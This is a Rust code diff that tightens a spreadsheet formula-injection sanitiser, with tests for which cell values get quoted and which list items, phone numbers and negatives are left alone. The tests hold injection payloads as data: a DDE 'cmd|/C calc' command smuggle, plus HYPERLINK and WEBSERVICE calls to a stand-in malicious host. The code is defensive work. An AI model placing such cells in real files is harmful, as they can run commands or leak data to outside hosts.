@@ -96,14 +96,24 @@ fn begins_formula(text: &str) -> bool {
     text.starts_with(['\t', '\r', '\n']) || seen(text).starts_with(SIGNS)
 }
 
-/// Whether `part` is one: it begins with an equals sign, or with another sign and calls a function or another program.
+/// Whether `part` may be taken for one. People begin lines with dashes and names of accounts, and write telephone numbers: these are
+/// none, as long as nothing in them is a call or leads elsewhere.
 fn is_formula(part: &str) -> bool {
-    let seen = seen(part);
+    let mut characters = seen(part).chars();
+    let (Some(sign), next) = (characters.next(), characters.next()) else { return false };
     let calls = || {
-        let is_call = |(at, _): (usize, &str)| seen[..at].ends_with(|c: char| c.is_alphanumeric());
-        seen.contains('|') || seen.match_indices('(').any(is_call)
+        let is_call = |(at, _): (usize, &str)| part[..at].ends_with(|c: char| c.is_alphanumeric());
+        part.contains(['|', '!']) || part.match_indices('(').any(is_call)
     };
-    seen.starts_with(['=', '\u{ff1d}']) || (seen.starts_with(SIGNS) && calls())
+    let is_number = next.is_some_and(|next| next.is_ascii_digit());
+    let is_item = next.is_none_or(char::is_whitespace);
+    match sign {
+        '=' | '\u{ff1d}' => true,
+        '+' | '\u{ff0b}' => !is_number || calls(),
+        '-' | '\u{ff0d}' => !(is_number || is_item) || calls(),
+        '@' | '\u{ff20}' => part.contains('(') || calls(),
+        _ => false,
+    }
 }
 
 #[cfg(test)]
@@ -141,10 +151,24 @@ mod tests {
         assert_eq!(harmless("Halo\n =HYPERLINK(\"x\")\nsampai"), "Halo\n' =HYPERLINK(\"x\")\nsampai");
         assert_eq!(harmless("a;-cmd|'/C calc'!A0"), "a;'-cmd|'/C calc'!A0");
         assert_eq!(harmless("a; @SUM(A1)"), "a;' @SUM(A1)");
+        for formula in [
+            "+'\\\\jahat\\s\\[b.xlsx]L'!A1",
+            "+HYPERLINK (\"http://jahat.example\"&A1)",
+            "+WEBSERVICE\u{a0}(\"http://jahat.example\")",
+            "-A1",
+            "@SUM (A1)",
+            "+1+HYPERLINK(\"x\")",
+        ] {
+            assert_eq!(harmless(&format!("a;{formula}")), format!("a;'{formula}"));
+        }
         // What people write in lists is left alone.
-        for text in
-            ["Bawa:\n- buku\n- pensil (dua)\n@pustekkom", "", "a = b", "https://contoh.id/?a=b", "#Satu #Dua"]
-        {
+        for text in [
+            "Bawa:\n- buku\n- pensil (dua)\n+62 812 3456\n-5 derajat\n@pustekkom",
+            "",
+            "a = b",
+            "https://contoh.id/?a=b",
+            "#Satu #Dua",
+        ] {
             assert_eq!(harmless(text), text);
         }
     }
